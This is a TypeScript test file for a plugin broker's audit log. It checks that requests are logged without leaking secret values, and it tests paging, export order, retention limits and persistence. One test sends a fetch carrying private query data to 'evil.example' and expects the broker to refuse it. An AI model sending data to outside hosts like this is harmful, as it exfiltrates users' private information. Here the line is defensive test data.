import { beforeAll, expect, test } from 'vitest';
import type { AuditNote } from '../../worker/protocol/audit.js';
import { failure, fresh, netRights, openTestBroker, storageRights } from '../fixtures/broker.js';
import { tamper } from '../fixtures/database.js';
import { netHosts } from '../fixtures/net.js';

let first = '';
beforeAll(async () => {
  ({ first } = await netHosts());
});

const notes = (count: number, plugin = 'one'): AuditNote[] =>
  Array.from({ length: count }, (_, n) => ({ type: 'call', plugin, what: `${n}` }));
const what = (entries: readonly { what?: string | undefined }[]) => entries.map((entry) => entry.what);

test('every request of a call is in the log, with what it was about and no value', async () => {
  using broker = openTestBroker();
  await broker.call('setSecret', { plugin: 'test-plugin', name: 'KEY', value: 'a secret value', hosts: [first] });
  const storage = await broker.open(storageRights(), { call: 'c-1' });
  await storage.ask('storage.set', { key: 'score', value: 'a private value' });
  await storage.ask('storage.get', { key: 'score' });
  await failure(storage.ask('storage.get', {}));
  const net = await broker.open(netRights({ hosts: [first], secrets: ['KEY'] }), { call: 'c-2' });
  await net.ask('net.fetch', { url: `http://${first}/echo?q=private&k={{secret:KEY}}` });
  await failure(net.ask('net.fetch', { url: 'https://evil.example/?q=private' }));
  await failure(net.ask('net.fetch', { url: `http://${first}/redirect?to=/echo` }));
  const simulated = await broker.open(storageRights(), { simulation: 's', call: 'c-3' });
  await simulated.ask('storage.set', { key: 'score', value: 1 });
  simulated.port.postMessage('no request');
  await broker.call('drop', { grants: [storage.grant, net.grant] });
  await expect.poll(async () => (await broker.call('audit', { limit: 1 }))[0]?.outcome).toBe('PROTOCOL_VIOLATION');

  const entries = [...(await broker.call('audit', { plugin: 'test-plugin', limit: 100 }))].reverse();
  expect(entries.map(({ type, call, what, outcome, permission }) => [type, call, what, outcome, permission])).toEqual([
    ['use', 'c-1', 'storage.set score', 'ok', 'data'],
    ['use', 'c-1', 'storage.get score', 'ok', 'data'],
    ['use', 'c-1', 'storage.get', 'BAD_ARGS', 'data'],
    ['use', 'c-2', `GET ${first}`, 'ok', 'api'],
    ['refused', 'c-2', 'GET evil.example', 'CAPABILITY_DENIED', undefined],
    ['refused', 'c-2', `GET ${first}`, 'NET_REDIRECT', 'api'],
    ['use', 'c-3', 'storage.set score', 'ok', 'data'],
    ['refused', 'c-3', 'what no honest worker sends', 'PROTOCOL_VIOLATION', undefined],
  ]);
  expect(entries[0]).toMatchObject({ tool: 'main', bytesOut: 41, bytesIn: 0, simulated: false });
  expect(entries[1]).toMatchObject({ bytesIn: 17 });
  expect(entries[6]).toMatchObject({ simulated: true });
  const text = await broker.call('exportAudit', {});
  for (const word of ['private', 'secret', 'q=']) expect(text).not.toContain(word);
});

test('the log is read in pages, the newest first, by plugin and by type, and exported the oldest first', async () => {
  using broker = openTestBroker();
  await broker.call('note', { notes: notes(1200) });
  await broker.call('note', { notes: [{ type: 'install', plugin: 'two' }] });
  const pages: string[] = [];
  let before: string | undefined;
  for (;;) {
    const page = await broker.call('audit', { plugin: 'one', limit: 500, ...(before !== undefined && { before }) });
    if (page.length === 0) break;
    pages.push(...what(page).map(String));
    before = page.at(-1)?.seq;
  }
  expect(pages).toEqual(Array.from({ length: 1200 }, (_, n) => `${1199 - n}`));
  expect(await broker.call('audit', { type: 'install', limit: 1000 })).toMatchObject([{ plugin: 'two' }]);
  const lines = (await broker.call('exportAudit', {})).trimEnd().split('\n');
  expect(lines.length).toBe(1201);
  expect(JSON.parse(lines[0] as string)).toMatchObject({ what: '0', plugin: 'one', type: 'call' });
  for (const limit of [0, 1001, 1.5])
    expect(await failure(broker.call('audit', { limit }))).toMatchObject({ code: 'BAD_ARGS' });
});

test('the log keeps only so many entries, and none for longer than it should', async () => {
  const store = fresh('retention');
  {
    using broker = openTestBroker({ store, limits: { auditEntries: 100 } });
    await broker.call('note', { notes: notes(500) });
    expect(what(await broker.call('audit', { limit: 1000 }))).toEqual(
      Array.from({ length: 100 }, (_, n) => `${499 - n}`),
    );
  }
  const seq = `${(Date.now() - 3 * 86_400_000).toString(36).padStart(9, '0')}0000old`;
  await tamper(store, `audit:${seq}`, { seq, at: 0, type: 'call', plugin: 'one', what: 'old' });
  {
    using broker = openTestBroker({ store, limits: { auditDays: 4 } });
    expect(what(await broker.call('audit', { limit: 1000 })).at(-1)).toBe('old');
  }
  using broker = openTestBroker({ store, limits: { auditDays: 2, auditEntries: 7 } });
  expect(what(await broker.call('audit', { limit: 1000 }))).toEqual(['499', '498', '497', '496', '495', '494', '493']);
});

test('what was noted is kept once somebody has looked, whatever happens to the broker then', async () => {
  const store = fresh('kept');
  {
    using broker = openTestBroker({ store });
    const { ask, grant } = await broker.open(storageRights());
    await ask('storage.set', { key: 'a', value: 1 });
    await broker.call('drop', { grants: [grant] });
    await broker.call('audit', { limit: 1 });
  }
  using broker = openTestBroker({ store });
  expect(what(await broker.call('audit', { limit: 10 }))).toEqual(['storage.set a']);
});
